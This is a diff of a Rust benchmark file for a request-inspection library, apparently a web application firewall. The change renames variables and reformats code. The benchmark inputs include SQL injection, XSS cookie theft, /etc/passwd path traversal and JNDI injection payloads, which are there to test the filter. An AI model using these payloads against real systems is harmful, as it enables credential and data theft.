@@ -52,30 +52,55 @@ fn bench(c: &mut Criterion) {
     let shield = Shield::new(Options::default());
     let headers = headers();
     let url = "/api/orders?page=2&sort=price_desc&filter=in-stock&q=blue+shirt&lang=en-GB";
-    let body_1k = json_body(1024);
-    let body_10k = json_body(10 * 1024);
-    let attack_query = "/api/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--&page=1";
+    let body_one = json_body(1024);
+    let body_ten = json_body(10 * 1024);
+    let attack_query =
+        "/api/items?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--&page=1";
     let attack_body = br#"{"comment":"<img src=x onerror=alert(document.cookie)>","file":"../../../../etc/passwd","q":"${jndi:ldap://x/a}"}"#;
 
     let mut g = c.benchmark_group("shield");
     g.bench_function("clean_1kb_json", |b| {
         b.iter(|| {
-            shield.inspect(black_box(&Input { method: "POST", url, headers: &headers, body: Some(&body_1k), content_type: None }))
+            shield.inspect(black_box(&Input {
+                method: "POST",
+                url,
+                headers: &headers,
+                body: Some(&body_one),
+                content_type: None,
+            }))
         });
     });
     g.bench_function("clean_10kb_json", |b| {
         b.iter(|| {
-            shield.inspect(black_box(&Input { method: "POST", url, headers: &headers, body: Some(&body_10k), content_type: None }))
+            shield.inspect(black_box(&Input {
+                method: "POST",
+                url,
+                headers: &headers,
+                body: Some(&body_ten),
+                content_type: None,
+            }))
         });
     });
     g.bench_function("attack_query_sqli", |b| {
         b.iter(|| {
-            shield.inspect(black_box(&Input { method: "GET", url: attack_query, headers: &headers, body: None, content_type: None }))
+            shield.inspect(black_box(&Input {
+                method: "GET",
+                url: attack_query,
+                headers: &headers,
+                body: None,
+                content_type: None,
+            }))
         });
     });
     g.bench_function("attack_json_body", |b| {
         b.iter(|| {
-            shield.inspect(black_box(&Input { method: "POST", url, headers: &headers, body: Some(attack_body), content_type: None }))
+            shield.inspect(black_box(&Input {
+                method: "POST",
+                url,
+                headers: &headers,
+                body: Some(attack_body),
+                content_type: None,
+            }))
         });
     });
     g.finish();
